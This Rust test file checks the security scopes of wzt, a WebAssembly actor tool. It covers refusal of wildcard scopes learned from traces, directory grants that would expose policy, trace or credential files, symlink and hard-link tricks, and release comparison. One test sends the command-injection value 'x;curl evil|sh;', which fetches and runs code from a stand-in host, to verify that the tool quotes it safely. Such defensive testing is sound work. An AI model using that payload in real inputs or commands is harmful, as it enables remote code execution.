//! The scopes against an attacker (docs/design.md §14): an actor that reaches patterns to
//! teach them to `--scopes-from`, writes the files a later run or signing reads, or a release
//! that looks narrower than it is to `inspect --against`.

use crate::common::{self, Env, local_server_on, run_request as request, stderr_of, stdout_of};

const P2: &str = "wasm32-wasip2";

fn setup() -> Env {
    let env = Env::new();
    common::store_account(&env);
    env
}

/// A trace line that says the actor published on `subject` and was not denied.
fn published_on(subject: &str) -> String {
    format!(
        "{{\"actor\":\"a\",\"call\":\"wasmcloud:messaging/consumer.publish\",\"resource\":{{\"kind\":\"msg.publish\",\"value\":\"{subject}\"}},\"args\":\"\",\"result\":\"ok\",\"duration_us\":1,\"denied\":false}}\n"
    )
}

#[test]
fn a_trace_teaches_named_resources_never_patterns() {
    let env = setup();
    let actor = common::fixture("msg-actor", P2);
    let sign = |trace: &str| {
        env.write("trace.jsonl", trace.as_bytes());
        env.wzt()
            .arg("sign")
            .arg(&actor)
            .args(["--caps", "msg", "--scopes-from", "trace.jsonl"])
            .args(["-o", "learned.wasm"])
            .output()
            .unwrap()
    };
    // A concrete subject is learned as it is.
    let out = sign(&published_on("orders.new"));
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert!(
        stderr_of(&out).contains("derived from trace.jsonl: msg.publish=orders.new; msg.subscribe=nothing (no value signed)"),
        "{}",
        stderr_of(&out)
    );
    // A wildcard would grant every subject under it: refused, nothing written.
    std::fs::remove_file(env.path("learned.wasm")).unwrap();
    for pattern in ["orders.>", "orders.*", ">"] {
        let out = sign(&format!(
            "{}{}",
            published_on("orders.new"),
            published_on(pattern)
        ));
        assert_eq!(out.status.code(), Some(2), "{pattern}");
        assert!(
            stderr_of(&out).contains(&format!(
                "--scopes-from: line 2: the call reached msg.publish={pattern}, a pattern and not one resource"
            )),
            "{}",
            stderr_of(&out)
        );
        assert!(!env.path("learned.wasm").exists());
    }
}

#[test]
fn no_dir_reaches_the_trace_file_the_policy_or_the_providers_files() {
    let env = setup();
    let actor = common::sign_fixture(&env, "fs-actor", P2, "http,fs", "fs_s.wasm", &[]);
    std::fs::create_dir_all(env.path("out")).unwrap();
    env.write("policy.toml", b"allow_unsigned = false\n");
    env.write("seed.json", b"{}");
    for (flags, what) in [
        (&["--trace-file", "out/trace.jsonl"][..], "the trace file"),
        (
            &["--mock-caps", "--kv-dump", "out/dump.json"][..],
            "the --kv-dump file",
        ),
        (
            &["--mock-caps", "--kv-seed", "out/seed.json"][..],
            "the --kv-seed file",
        ),
        (&["--policy", "out/policy.toml"][..], "the policy file"),
    ] {
        std::fs::copy(env.path("seed.json"), env.path("out/seed.json")).unwrap();
        std::fs::copy(env.path("policy.toml"), env.path("out/policy.toml")).unwrap();
        let mut args = vec!["--dir", "out::/data"];
        args.extend(flags);
        let (code, _, err) = request(&env, &actor, "GET /", &args);
        assert_eq!(code, 2, "{flags:?}: {err}");
        assert!(
            err.contains(&format!("--dir out: it would give the actor {what} (")),
            "{flags:?}: {err}"
        );
    }
    // The same files elsewhere: the directory is given.
    let (code, _, err) = request(
        &env,
        &actor,
        "GET /",
        &["--dir", "out::/data", "--trace-file", "trace.jsonl"],
    );
    assert_eq!(code, 0, "{err}");
}

#[test]
fn wzt_dev_gives_no_actor_its_own_project() {
    let env = setup();
    env.wzt()
        .args(["new", "proj", "--template", "http-hello"])
        .assert()
        .success();
    // Refused before anything is built: a build script written there would run natively,
    // and wzt.toml says what the next build is signed with. (Its sources, not only its
    // `.wzt` where the key-value store is.)
    let out = env
        .wzt()
        .current_dir(env.path("proj"))
        .args(["dev", "--dir", "src"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
    assert!(
        stderr_of(&out).contains(
            "it would give the actor a build input of the project (wzt.toml, Cargo.toml, Cargo.lock, build.rs, src/, .cargo/ or .wzt/)"
        ),
        "{}",
        stderr_of(&out)
    );
    assert!(!env.path("proj/.wzt/dev").exists());
}

#[test]
fn against_compares_bucket_names_as_names_and_counts_an_unsigned_release_as_wider() {
    let env = setup();
    // `app-*` signed is the bucket of that name, not a pattern: `app-x` is another bucket.
    let old = common::sign_fixture(
        &env,
        "kv-actor",
        P2,
        "http,kv,log",
        "old.wasm",
        &["--scope", "kv.bucket=app-*"],
    );
    let new = common::sign_fixture(
        &env,
        "kv-actor",
        P2,
        "http,kv,log",
        "new.wasm",
        &["--scope", "kv.bucket=app-x"],
    );
    let out = env
        .wzt()
        .args(["inspect", &new, "--against", &old])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stdout_of(&out));
    assert!(
        stdout_of(&out).contains("  + scope kv.bucket=app-x\n"),
        "{}",
        stdout_of(&out)
    );
    // An unsigned new file may be run with any grant: wider, exit 1.
    let unsigned = common::fixture("kv-actor", P2);
    let unsigned = unsigned.to_str().unwrap();
    let out = env
        .wzt()
        .args(["inspect", unsigned, "--against", &old])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr_of(&out));
    assert!(
        stdout_of(&out).contains(
            "Compared with old.wasm: the new artifact is unsigned, so it may be run with any grant `--caps` gives it (sign it to compare)"
        ),
        "{}",
        stdout_of(&out)
    );
    let json = env.json(&["inspect", unsigned, "--against", &old], 1);
    assert_eq!(json["against"]["unsigned"], true);
    assert_eq!(json["against"]["widens"], true);
    // An unsigned old one has nothing to compare with: exit 2.
    let out = env
        .wzt()
        .args(["inspect", &new, "--against", unsigned])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr_of(&out).contains("it is unsigned, so it has no grants to compare with"),
        "{}",
        stderr_of(&out)
    );
}

#[test]
fn an_ipv6_destination_is_reached_by_its_scope_and_allow_host_takes_a_scheme() {
    let env = setup();
    let port = local_server_on("[::1]:0", "from ipv6");
    let scope = format!("httpclient.host=http://[::1]:{port}");
    let actor = common::sign_fixture(
        &env,
        "http-client-actor",
        P2,
        "http,httpclient",
        "client_s.wasm",
        &["--scope", &scope],
    );
    let url = format!("/fetch?url=http://[::1]:{port}/data");
    let (code, out, err) = request(&env, &actor, &url, &[]);
    assert_eq!((code, out.as_str()), (0, "200 from ipv6"), "{err}");
    // `--allow-host` with a scheme narrows to it: https only refuses this http request.
    let (code, out, err) = request(
        &env,
        &actor,
        &url,
        &["--allow-host", &format!("https://[::1]:{port}")],
    );
    assert_eq!(code, 2, "{out}{err}");
    assert!(
        err.contains("is outside the actor's signed scope httpclient.host"),
        "{err}"
    );
    let (code, out, err) = request(
        &env,
        &actor,
        &url,
        &["--allow-host", &format!("http://[::1]:{port}")],
    );
    assert_eq!((code, out.as_str()), (0, "200 from ipv6"), "{err}");
    // Not a destination: refused with what to write.
    let (code, _, err) = request(&env, &actor, &url, &["--allow-host", "ftp://x"]);
    assert_eq!(code, 2);
    assert!(
        err.contains("'ftp://x' is not a host pattern (the scheme must be http or https, not ftp)"),
        "{err}"
    );
}

#[test]
fn a_protected_file_reached_through_a_link_or_another_name_is_still_protected() {
    let env = setup();
    let actor = common::sign_fixture(&env, "fs-actor", P2, "http,fs", "fs_s.wasm", &[]);
    std::fs::create_dir_all(env.path("data")).unwrap();
    std::fs::create_dir_all(env.path("real")).unwrap();
    env.write("real/policy.toml", b"allow_unsigned = false\n");
    // The policy named through a link inside the directory: the actor could repoint it.
    std::os::unix::fs::symlink(env.path("real/policy.toml"), env.path("data/policy.toml")).unwrap();
    let (code, _, err) = request(
        &env,
        &actor,
        "GET /",
        &["--policy", "data/policy.toml", "--dir", "data::/data"],
    );
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("--dir data: it would give the actor the policy file ("),
        "{err}"
    );
    // A trace file under a linked directory inside it.
    std::os::unix::fs::symlink(env.path("real"), env.path("data/lnk")).unwrap();
    let (code, _, err) = request(
        &env,
        &actor,
        "GET /",
        &["--trace-file", "data/lnk/t.jsonl", "--dir", "data::/data"],
    );
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("it would give the actor the trace file"),
        "{err}"
    );
    // A second name of the policy could be anywhere, in the directory too: refused.
    std::fs::remove_file(env.path("data/policy.toml")).unwrap();
    std::fs::remove_file(env.path("data/lnk")).unwrap();
    std::fs::hard_link(env.path("real/policy.toml"), env.path("data/hard.toml")).unwrap();
    let (code, _, err) = request(
        &env,
        &actor,
        "GET /",
        &["--policy", "real/policy.toml", "--dir", "data::/data"],
    );
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("the policy file (real/policy.toml) has other hard links"),
        "{err}"
    );
    // wzt's configuration directory, where a default policy file would be read from, also
    // while there is none; the lattice's credentials.
    let config = env.root.path().join("config");
    std::fs::create_dir_all(&config).unwrap();
    let (code, _, err) = request(
        &env,
        &actor,
        "GET /",
        &["--dir", &format!("{}::/data", config.display())],
    );
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("it would give the actor wzt's configuration directory"),
        "{err}"
    );
    std::fs::create_dir_all(env.path("secrets")).unwrap();
    env.write("secrets/user.creds", b"not read before the check");
    let (code, _, err) = request(
        &env,
        &actor,
        "GET /",
        &[
            "--lattice",
            "nats://127.0.0.1:1",
            "--nats-creds",
            "secrets/user.creds",
            "--dir",
            "secrets::/data",
        ],
    );
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("it would give the actor the --nats-creds file"),
        "{err}"
    );
}

#[test]
fn wzt_run_of_a_project_keeps_its_build_inputs_and_gives_a_data_directory() {
    let env = setup();
    let signed = common::sign_fixture(&env, "fs-actor", P2, "http,fs", "fs_s.wasm", &[]);
    std::fs::create_dir_all(env.path("proj/src")).unwrap();
    std::fs::create_dir_all(env.path("proj/data")).unwrap();
    std::fs::write(
        env.path("proj/wzt.toml"),
        "[actor]\nname = \"fs\"\ncaps = [\"http\", \"fs\"]\n[build]\ncommand = \"true\"\nartifact = \"fs.wasm\"\n",
    )
    .unwrap();
    std::fs::copy(env.path(&signed), env.path("proj/fs_s.wasm")).unwrap();
    let run = |dir: &str| {
        env.wzt()
            .current_dir(env.path("proj"))
            .args(["run", "--request", "GET /", "--dir", dir])
            .output()
            .unwrap()
    };
    let out = run("src::/data");
    assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
    assert!(
        stderr_of(&out).contains(
            "--dir src: it would give the actor a build input of the project (wzt.toml, Cargo.toml, Cargo.lock, build.rs, src/, .cargo/ or .wzt/)"
        ),
        "{}",
        stderr_of(&out)
    );
    // The project itself holds wzt.toml (and its key-value store).
    let out = run(".::/data");
    assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
    assert!(
        stderr_of(&out).contains("--dir .: it would give the actor "),
        "{}",
        stderr_of(&out)
    );
    let out = run("data::/data");
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
}

#[test]
fn a_denial_hint_is_one_shell_word() {
    let env = setup();
    let actor = common::sign_fixture(
        &env,
        "kv-actor",
        P2,
        "http,kv,log",
        "kv_s.wasm",
        &["--scope", "kv.bucket=app"],
    );
    // The bucket comes from the request: `x;curl evil|sh;`.
    let (code, _, err) = request(
        &env,
        &actor,
        "/incr?key=k&bucket=x%3Bcurl%20evil%7Csh%3B",
        &["--mock-caps"],
    );
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("grant it with --scope 'kv.bucket=x;curl evil|sh;'")
            || err.contains("no scope can name it"),
        "{err}"
    );
    assert!(!err.contains("--scope kv.bucket=x;"), "{err}");
}
